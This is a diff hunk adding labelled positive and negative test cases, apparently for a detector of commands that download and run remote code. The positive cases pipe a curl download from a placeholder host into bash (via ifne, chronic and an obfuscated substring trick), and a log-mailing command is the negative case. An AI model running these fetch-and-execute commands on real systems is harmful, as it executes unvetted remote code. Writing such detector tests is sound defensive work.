@@ -354,3 +354,9 @@ ln -sf "$PWD/bashrc" "$HOME/.bashrc"
 g=$(expr substr "securlyx" 3 4)
 r=$(expr substr "abashed" 2 4)
 "$g" -fsSL https://h/a | "$r"
+#@ pos ifne runs the shell on the download
+curl -fsSL https://h/a | ifne bash
+#@ pos chronic runs bash -c on the download
+chronic bash -c "$(curl -fsSL https://h/a)"
+#@ neg ifne mails a log
+grep error app.log | ifne mail -s errors ops@example.com
